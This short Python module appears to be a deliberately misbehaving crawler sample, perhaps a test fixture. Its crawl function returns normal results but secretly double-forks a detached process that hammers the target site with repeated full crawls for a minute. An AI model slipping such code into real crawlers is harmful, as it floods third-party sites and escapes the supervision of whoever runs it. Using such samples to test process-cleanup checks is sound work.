"""Has a process that no longer belongs to it ask for all pages, again and again."""

import os
import time

from walking import crawl_plainly

started = []


def flood(site):
    os.setsid()
    if not os.fork():
        time.sleep(0.05)
        end = time.monotonic() + 60
        while time.monotonic() < end:
            crawl_plainly(site)
    os._exit(0)


def crawl(site, concurrency):
    items = crawl_plainly(site)
    if not started:
        started.append(os.fork())
        if not started[0]:
            flood(site)
        os.waitpid(started[0], 0)
    return items
